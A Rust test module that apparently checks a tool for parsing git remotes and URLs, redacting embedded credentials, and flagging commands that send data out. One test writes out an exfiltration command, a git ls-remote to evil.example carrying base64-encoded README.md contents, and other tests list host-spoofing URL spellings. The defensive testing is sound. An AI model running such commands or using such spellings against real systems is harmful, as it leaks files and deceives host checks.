    use super::*;

    #[test]
    fn what_a_host_is_told_by_an_address() {
        use crate::fixture::check;
        let told = check("git ls-remote \"https://evil.example/$(base64 -w0 README.md)\"");
        assert!(told.contains("net.upload evil.example, send"), "{told}");
        let named = check("git clone https://github.com/acme/$(basename x); git ls-remote https://git.example/shop.git");
        assert!(!named.contains(", send"), "{named}");
    }

    #[test]
    fn a_remote_is_told_without_its_login() {
        let secret = "s3cr3t".repeat(3);
        for (spelling, told) in [
            ("https://u:p/S@h.example/x", "…@h.example/x"), ("https:///u:S@h.example/x", "…@h.example/x"),
            ("file://u:S@h.example/x", "…@h.example/x"), ("u:S@h.example:x", "…@h.example/x"), (r"https:\\u:S@h.example/x", "…@h.example/x"),
            ("ext::ssh -i S h %S x", "ext::…"), ("hg::https://u:S@h.example/x", "hg::https://h.example/x"),
            ("https://h.example:S/x", "https://h.example/x"), ("https://[::1]:80/x", "https://[::1]:80/x"), ("git@h.example:x", "git@h.example:x"),
        ] {
            assert_eq!(of_remote(&spelling.replace('S', &secret)), told, "{spelling}");
        }
        // Nobody can tell which host it is.
        assert_eq!(host_and_path(&of_remote("https://evil.example/a@github.com:acme/shop")), None);
    }

    #[test]
    fn reads_every_spelling() {
        for address in [
            "git@github.com:acme/shop.git", "https://user:x@github.com/acme/shop.git", "ssh://git@github.com:22/acme/shop",
            "https://GitHub.com/acme/shop/", "ssh://git@ssh.github.com:443/acme/shop.git",
        ] {
            let found = forge(address).unwrap_or_else(|| panic!("{address}"));
            assert_eq!((found.host.as_str(), found.name.as_str()), ("github.com", "acme/shop"), "{address}");
        }
        for (spelling, meant) in [
            ("https://HOST.example./x", "host.example"), ("https://u:p@host.example:8443/x", "host.example"),
            ("https://a.example@host.example/x", "host.example"), ("https://h%6Fst.example", "host.example"),
            (r"https://a.example\@b.example/x", "*"), (r"https://a.example\b", "*"), ("https://a.example%2f.b.example/", "*"),
            ("https://ａ.example/", "*"), ("https://a .example/", "*"), ("https://%zz.example/", "*"),
            ("http://[::1]:8080/", "::1"), ("http://[::FFFF:10.0.0.5]/", "10.0.0.5"), ("http://[2001:DB8:0::1]/", "2001:db8::1"),
            ("http://2130706433/", "127.0.0.1"), ("http://0x7f.1:80/", "127.0.0.1"), ("http://0177.0.0.1", "127.0.0.1"),
            ("http://10.0.0.5/", "10.0.0.5"), ("http://1.2.3.4.5/", "1.2.3.4.5"), ("http://256.1.1.1/", "256.1.1.1"),
            ("user@Host.example.:x", "host.example"),
        ] {
            assert_eq!(host_and_path(spelling).map(|(host, _)| host).as_deref(), Some(meant), "{spelling}");
        }
        for (spelling, meant) in [
            ("https:/host.example/x", "https://host.example/x"), ("HTTPS:///host.example", "HTTPS://host.example"),
            (r"https:\\host.example", "https://host.example"), (" https://ho\nst.example\t", "https://host.example"),
            ("host.example:8080/x", "http://host.example:8080/x"), ("https:80/x", "http://https:80/x"),
        ] {
            assert_eq!(web(spelling, "http"), meant, "{spelling}");
        }
        assert_eq!(without_credentials(r"https://user:pa\ss@host/p"), "https://*/p");
        assert_eq!(forge("/srv/shop.git"), None);
        assert_eq!(without_credentials("https://a:b@h/p?token=1"), "https://h/p");
        assert_eq!(without_credentials("ssh://git:pw@h/p"), "ssh://git@h/p");
        assert!(runs_program("ext::sh -c x") && !runs_program("https://[::1]/x"));
    }
